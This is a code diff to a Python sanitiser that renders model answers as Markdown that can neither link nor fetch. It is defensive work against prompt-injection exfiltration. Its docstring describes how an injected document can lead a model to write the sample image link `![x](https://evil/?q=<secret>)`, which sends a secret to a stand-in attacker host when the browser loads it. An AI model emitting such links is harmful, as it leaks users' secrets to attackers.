@@ -1,13 +1,18 @@
 r"""Model and document text as Markdown that can neither fetch nor link anywhere.
 
 A prompt-injected document can make the model write ``![x](https://evil/?q=<secret>)``; shown
-as Markdown, the browser would fetch that URL by itself and leak the secret. The trade-off:
-rather than parse Markdown (and trust that our parser agrees with the browser's on every edge
-case; markdown-it and remark already disagree on whether a fence or a table wins), we make the
-text safe under *any* reading. We escape the few characters that every link, image and
-raw-HTML form needs (``[``, ``]``, ``<`` and ``\``) everywhere, and put each URL in a code span
-whose backtick fence is longer than any backtick run before it in the paragraph, so nothing can
-pair with it and pull the URL back out. Emphasis, lists, headings and tables still render.
+as Markdown, the browser would fetch that URL by itself and leak the secret. Plain text links
+too: Streamlit renders GitHub-flavoured Markdown, which turns ``www.`` and ``https://`` words
+and e-mail addresses (``kim@corp.example``, even with ``@`` and ``.`` escaped) into live links
+(``mailto:`` for addresses).
+
+The trade-off: rather than parse Markdown (and trust that our parser agrees with the browser's
+on every edge case; markdown-it and remark already disagree on whether a fence or a table wins),
+we make the text safe under *any* reading. We escape the few characters that every link, image
+and raw-HTML form needs (``[``, ``]``, ``<`` and ``\``) everywhere, and put each URL or address
+in a code span whose backtick fence is longer than any backtick run before it in the paragraph,
+so nothing can pair with it and pull the URL back out. Emphasis, lists, headings and tables
+still render.
 
 Code blocks are the price: escaping them too would show stray backslashes, so
 :func:`split_code_blocks` cuts a finished answer into prose (shown through this module) and code
@@ -26,9 +31,10 @@ from dataclasses import dataclass
 _LINK_SYNTAX = re.compile(r"([\\\[\]<])")
 # Everything CommonMark lets a backslash escape: for text that must render literally.
 _ASCII_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
-# A URL anywhere in a token: "scheme://" or GFM's "www." autolink form.
-_URL = re.compile(r"(?i)(?:[a-z][a-z0-9+.-]*://|www\.)")
-_URL_MARK = re.compile(r"(?i)(://|www\.)")
+# Anything GFM would link in a token: "scheme://", its "www." form, an e-mail address
+# ("name@domain.tld"; "mailto:" and "xmpp:" links need one too).
+_URL = re.compile(r"(?i)(?:[a-z][a-z0-9+.-]*://|www\.|[\w.+-]@[\w-]+\.[\w-])")
+_URL_MARK = re.compile(r"(?i)(://|www\.|@)")
 _BACKTICKS = re.compile(r"`+")
 _SPACE = re.compile(r"(\s+)")
 _FENCE = re.compile(r"^(`{3,}|~{3,})([^`\n]*)$")
@@ -40,13 +46,13 @@ def _max_run(text: str) -> int:
 
 
 def _unlinkable(token: str) -> str:
-    """A token shown literally, its URL broken by an invisible space so nothing links it."""
+    """A token shown literally, its URL or address broken by an invisible space (no link)."""
     broken = _URL_MARK.sub(lambda m: m.group(1)[:-1] + _ZERO_WIDTH_SPACE + m.group(1)[-1], token)
     return _ASCII_PUNCTUATION.sub(r"\\\1", broken)
 
 
 def literal_markdown(text: str) -> str:
-    """Text that renders exactly as written (file names, passage snippets), URLs unlinked.
+    """Text that renders exactly as written (file names, passage snippets), nothing linked.
 
     Every punctuation character is escaped, so the only code spans are the ones put around
     URLs here, and nothing can pair with their backticks.
